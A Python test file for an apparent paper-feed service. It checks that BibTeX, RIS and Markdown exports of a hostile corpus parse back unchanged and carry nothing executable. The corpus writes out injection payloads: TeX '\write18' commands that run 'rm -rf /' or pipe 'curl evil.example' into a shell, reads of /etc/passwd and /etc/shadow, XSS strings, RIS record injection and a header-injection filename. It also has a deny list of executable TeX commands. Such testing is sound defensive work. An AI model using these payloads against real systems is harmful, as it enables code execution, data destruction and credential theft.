r"""Exports of a hostile corpus parse back, with the same values, and carry nothing executable.

The corpus below is what a malicious or broken source could put in a title, an author, an abstract
or a comment. Every export is parsed with what reference managers and renderers use — bibtexparser 2
(.bib), rispy (.ris), markdown-it (.md, CommonMark with raw HTML on, plus GFM's strikethrough and
tables) — and each field compared with the original.

"The same" means: the parsed value equals the original after the documented normalisation
(``normalize_text``: whitespace runs are one space, control and bidi-override characters dropped),
and, for BibTeX, once the export's TeX spelling is read back (:func:`bib_text`): ``\&`` ``\%`` ``\#``
``\$`` are those characters; ``\textbackslash{}`` is a backslash (how dangerous commands and a
trailing backslash are written out); ``\textbraceleft{}``/``\lbrace{}`` (and right) are ``\{``/``\}``;
``^{}`` before ``^`` is ``^``; a space after ``\\`` before a brace or at the end is the export's; and bare braces
that do not pair up are dropped (and the spaces around them collapsed).
"""

from __future__ import annotations

import datetime as dt
import re
from html.parser import HTMLParser

import bibtexparser
import pytest
import rispy
from markdown_it import MarkdownIt

from paperboy.api.citations import ris_file
from paperboy.api.hf_compat import paper_markdown_text
from paperboy.papers.bibtex import bibtex_entries
from paperboy.papers.normalize import normalize_text
from paperboy.store import repo

DAY = dt.date(2026, 7, 20)  # after the corpus slice: the day's export holds the hostile papers only

# TeX that reads or writes files, runs programs or redefines TeX: must never reach a .bib as a command.
EXECUTABLE = {"input", "include", "write", "immediate", "openout", "openin", "read", "catcode", "def", "edef", "gdef",
              "csname", "endcsname", "expandafter", "let", "newcommand", "renewcommand", "usepackage", "special"}  # fmt: skip

HOSTILE_TEXT = [
    "Trailing backslash \\",
    "Two trailing backslashes \\\\",
    "Unbalanced { brace",
    "Unbalanced } brace {",
    "Escaped \\{ brace",
    "Escaped \\} brace and $\\{x\\}$ sets",
    "Specials % # & @ and 100% of #1 R&D @misc{x, title={y}}",
    "\\input{/etc/passwd}",
    "\\write18{rm -rf /}",
    "\\immediate\\write18{curl evil.example | sh}",
    "\\catcode`\\^^M=13 \\def\\x{\\input /etc/shadow}",
    "\\csname input\\endcsname{/etc/passwd}",
    "^^5cinput{/etc/passwd} and ^^^^005cwrite18",
    "\\inp{}ut{/etc/passwd} } and ^{^5cwrite",  # unpaired: the braces go, and must not join a command
    "\\begin{filecontents}{x.tex}\\end{filecontents}",
    "Line\nbreaks\r\nand\rCR\x0bVT\x0cFF\x1cFS\x85NEL\u2028LS",
    "NUL\x00 BEL\x07 ESC\x1b DEL\x7f controls",
    "ER  - fake end\nTY  - JOUR\nTI  - injected",
    "<script>alert(1)</script> <a href=javascript:alert(2)>x</a> <img src=x onerror=alert(3)>",
    "[x](javascript:alert(1)) ![img](http://evil.example/t.png) <http://evil.example> &lt;b&gt; &#60;i&#62;",
    "# Heading *em* **strong** _u_ `code` ~~strike~~ | a | b |",
    "Right\u202eto-left override\u2066isolate\u2069 and \u05e2\u05d1\u05e8\u05d9\u05ea",
    "Math $\\alpha \\leq \\beta$, $O(n^2)$, \\(x_i\\) and $x^{2}$ stay readable; Schr\\\"odinger, na\\\"ive, \\'etude",
    "Money: $5 and $10",
    "\\\\& a line break then a bare ampersand",
    "x" * 1900 + " very long",
]
AUTHOR_TEXT = ["Ada Lovelace\\", "\\input{/etc/passwd}", "Bob } Builder", "- Dash", "1. Numbered", "> Quote", "Research and Development",
               "<b>Bold</b>", "Élodie Ça\u202eva", "Nul\x00l"]  # fmt: skip
ABSTRACT_LINE_STARTS = ["- item", "+ item", "1. item", "2) item", "> quote", "=== setext", "--- rule", "    indented code",
                        "```fence", "~~~fence", "<div>html block</div>", "| a | b |\n|---|---|\n| 1 | 2 |"]  # fmt: skip


def hostile_papers(n_base: int = 1) -> list[repo.Paper]:
    """One paper per hostile text (title, abstract, comment, journal reference), with hostile authors."""
    out = []
    for i, text in enumerate(HOSTILE_TEXT):
        starts = ABSTRACT_LINE_STARTS[i % len(ABSTRACT_LINE_STARTS)]
        out.append(repo.Paper(
            arxiv_id=f"2607.{n_base * 10000 + i:05d}", title=f"T{i} {text}", abstract=f"{starts} {text}\n\n{starts}\n\n{text}",
            authors=[AUTHOR_TEXT[i % len(AUTHOR_TEXT)], f"Author {text[:80]}"], categories=["cs.CL"], comment=text[:4000],
            journal_ref=text[:1900], doi=f"10.1234/{i}(a)<b>", published=DAY, announced=DAY, id=i + 1,
        ))  # fmt: skip
    return out


# --- reading exports back -------------------------------------------------------------------------

_SPELT = [(r"\textbackslash{}", "\\"), (r"\textbraceleft{}", r"\{"), (r"\textbraceright{}", r"\}"), (r"\lbrace{}", r"\{"),
          (r"\rbrace{}", r"\}")]
_ESCAPED_SPECIAL = re.compile(r"\\([&%#$]|.)")  # a pair at a time: "\\&" is "\\" and then "&"
_BARE_BRACE = re.compile(r"(?<!\\)[{}]")


def _special(m: re.Match) -> str:
    return m.group(1) if m.group(1) in "&%#$" else m.group()


def bib_text(value: str) -> str:
    """A .bib value read back as the text it stands for (see the module's docstring)."""
    for spelt, text in _SPELT:
        value = value.replace(spelt, text)
    value = re.sub(r"\\\\ (?=[{}]|$)", r"\\\\", re.sub(r"\^\{\}(?=\^)", "^", value))
    return _ESCAPED_SPECIAL.sub(_special, value)


def bib_expected(original: str) -> str:
    """The original as a .bib value should read back: normalised, specials as text, unpaired braces dropped."""
    text = normalize_text(original)
    depth, balanced = 0, True
    for brace in _BARE_BRACE.findall(text):
        depth += 1 if brace == "{" else -1
        balanced = balanced and depth >= 0
    if not balanced or depth:
        text = " ".join(_BARE_BRACE.sub("", text).split())
    return _ESCAPED_SPECIAL.sub(_special, text)


def bib_names(value: str) -> list[str]:
    """BibTeX's author list: split at " and " outside braces; a name wholly in braces loses them."""
    names, depth, start = [], 0, 0
    for i, ch in enumerate(value):
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth == 0 and value.startswith(" and ", i):
            names.append(value[start:i])
            start = i + 5
    names.append(value[start:])
    return [n[1:-1] if n.startswith("{") and _wrapped(n) else n for n in names]


def _wrapped(name: str) -> bool:
    depth = 0
    for i, ch in enumerate(name):
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth == 0:
            return i == len(name) - 1
    return False


def tex_commands(value: str) -> list[str]:
    """The control words TeX would read in ``value``, left to right (``\\\\input`` is ``\\\\`` then text)."""
    return [m.group(1) for m in re.finditer(r"\\([A-Za-z]+|.)", value, re.S)]


def braces_pair_up_for_bibtex(value: str) -> bool:
    """BibTeX counts every brace, escaped or not; bibtexparser only bare ones: both must agree."""
    depth = 0
    for ch in value:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth < 0:
            return False
    return depth == 0 and "\\{" not in value and "\\}" not in value


class _Rendered(HTMLParser):
    """The elements, attributes and texts of rendered Markdown."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.blocks: list[tuple[str, str]] = []  # (tag, its text) for h1, h2, p
        self._inside = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in ("h1", "h2", "p"):
            self.blocks.append((tag, ""))
            self._inside = True
        if tag == "br":
            self.handle_data("\n")

    def handle_endtag(self, tag):
        if tag in ("h1", "h2", "p"):
            self._inside = False

    def handle_data(self, data):
        if self._inside:
            tag, text = self.blocks[-1]
            self.blocks[-1] = (tag, text + data)


def render_markdown(text: str) -> _Rendered:
    md = MarkdownIt("commonmark").enable(["strikethrough", "table"])  # raw HTML allowed, as most renderers do
    parsed = _Rendered()
    parsed.feed(md.render(text))
    return parsed


# --- the checks -----------------------------------------------------------------------------------

def check_bibtex(papers, text: str) -> None:
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks, [b.error for b in library.failed_blocks][:3]
    assert len(library.entries) == len(papers) and not library.comments
    for paper, entry in zip(papers, library.entries):
        fields = {f.key: f.value for f in entry.fields}
        for name, original in (("title", paper.title), ("note", paper.journal_ref), ("doi", paper.doi)):
            assert (name in fields) == (original is not None), (paper.arxiv_id, name)
            if original is not None:
                assert bib_text(fields[name]) == bib_expected(original), (paper.arxiv_id, name)
        assert [bib_text(n) for n in bib_names(fields["author"])] == [bib_expected(a) for a in paper.authors], paper.arxiv_id
        assert fields["eprint"] == paper.arxiv_id
        for name, value in fields.items():
            assert braces_pair_up_for_bibtex(value), (paper.arxiv_id, name, value)
            assert not EXECUTABLE & set(tex_commands(value)), (paper.arxiv_id, name, value)
            assert "^^" not in value and "\n" not in value


def check_ris(papers, text: str) -> None:
    records = rispy.loads(text)
    assert len(records) == len(papers)
    for paper, record in zip(papers, records):
        assert record["type_of_reference"] == "UNPB"
        assert record["title"] == normalize_text(paper.title)
        assert record["authors"] == [normalize_text(a) for a in paper.authors]
        assert record["abstract"] == normalize_text(paper.abstract)
        assert record["notes"] == [f"Journal reference: {normalize_text(paper.journal_ref)}", normalize_text(paper.comment)]
        assert record["doi"] == normalize_text(paper.doi) and record["urls"] == [f"https://arxiv.org/abs/{paper.arxiv_id}"]


def check_markdown(paper, text: str) -> None:
    rendered = render_markdown(text)
    allowed = {"h1", "h2", "p", "strong", "a", "br"}
    assert {tag for tag, _ in rendered.tags} <= allowed, text
    for tag, attrs in rendered.tags:
        assert set(attrs) <= ({"href"} if tag == "a" else set()), (tag, attrs)
        if tag == "a":
            assert re.match(r"https?://", attrs["href"]) and "javascript:" not in attrs["href"].lower(), attrs
    blocks = rendered.blocks
    assert blocks[0] == ("h1", normalize_text(paper.title))
    assert blocks[1] == ("p", "Authors: " + ", ".join(normalize_text(a) for a in paper.authors))
    facts = dict(line.split(": ", 1) for line in blocks[2][1].split("\n") if line)  # <br /> and its line end
    assert facts["Comment"] == normalize_text(paper.comment) and facts["Journal reference"] == normalize_text(paper.journal_ref)
    assert facts["DOI"] == normalize_text(paper.doi)
    assert blocks[3] == ("h2", "Abstract")
    paragraphs = [normalize_text(part) for part in paper.abstract.split("\n\n") if normalize_text(part)]
    assert blocks[4:] == [("p", p) for p in paragraphs], text


def test_bibtex_of_a_hostile_corpus_parses_back_the_same_and_runs_nothing():
    papers = hostile_papers()
    check_bibtex(papers, bibtex_entries(papers))


def test_ris_of_a_hostile_corpus_parses_back_the_same():
    papers = hostile_papers()
    check_ris(papers, ris_file(papers))


def test_markdown_of_a_hostile_corpus_renders_as_the_same_text_and_no_markup():
    for paper in hostile_papers():
        paper.github_repo, paper.project_page = "javascript:alert(1)", "https://example.org/a b)<x>"
        check_markdown(paper, paper_markdown_text(paper, "https://paperboy.example"))


def test_every_door_exports_a_stored_hostile_corpus(client):
    """The same checks over HTTP, on SQLite and PostgreSQL: the day's .bib and .ris, each paper's .md."""
    papers = hostile_papers(n_base=2)
    for paper in papers:  # PostgreSQL text cannot hold NUL (the importer drops it); every other character stays
        for name in ("title", "abstract", "comment", "journal_ref"):
            setattr(paper, name, getattr(paper, name).replace("\x00", ""))
        paper.authors = [a.replace("\x00", "") for a in paper.authors]
    with client.engine.begin() as conn:
        repo.upsert_papers(conn, papers)
    with client.engine.connect() as conn:
        stored = [repo.get_paper(conn, p.arxiv_id) for p in papers]
    stored.sort(key=lambda p: p.arxiv_id, reverse=True)  # the feed's order when no votes differ: newest id first
    bib = client.get(f"/papers/date/{DAY}.bib")
    ris = client.get(f"/papers/date/{DAY}.ris")
    assert bib.status_code == ris.status_code == 200
    check_bibtex(stored, bib.text)
    check_ris(stored, ris.text)
    for paper in stored:
        r = client.get(f"/papers/{paper.arxiv_id}.md")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/markdown")
        check_markdown(paper, r.text)


@pytest.mark.parametrize("text", HOSTILE_TEXT[:16])
def test_one_paper_bib_of_each_hostile_title_parses(text):
    """Each hostile title alone (so one bad value cannot hide behind another entry's failure)."""
    paper = repo.Paper(arxiv_id="2607.00001", title=text, abstract="a", authors=[text[:400]], published=DAY)
    check_bibtex([paper], bibtex_entries([paper]))


def test_a_period_file_lists_the_feeds_papers_in_the_feeds_order(client):
    from paperboy.feed.periods import parse_period
    from paperboy.feed.views import feed_view

    for kind, slug, cat in (("week", "2026-W27", None), ("day", "2026-06-30", "cs.CL")):
        period = parse_period(kind, slug)
        with client.engine.connect() as conn:
            expected = [p.arxiv_id for p in feed_view(conn, period, category=cat, page=1, size=2000).papers]
        segment = "date" if kind == "day" else kind
        records = rispy.loads(client.get(f"/papers/{segment}/{slug}.ris" + (f"?cat={cat}" if cat else "")).text)
        assert [r["accession_number"].removeprefix("arXiv:") for r in records] == expected and expected


def test_a_citation_files_category_must_be_one(client):
    """?cat= goes into the file's name (Content-Disposition): anything but a category is refused."""
    r = client.get('/papers/month/2026-06.bib?cat=x";%20filename=evil.exe')
    assert r.status_code == 400 and "evil" not in r.headers.get("content-disposition", "")
    ok = client.get("/papers/month/2026-06.bib?cat=cs.CL")
    assert ok.headers["content-disposition"] == 'inline; filename="paperboy-2026-06-cs.CL.bib"'
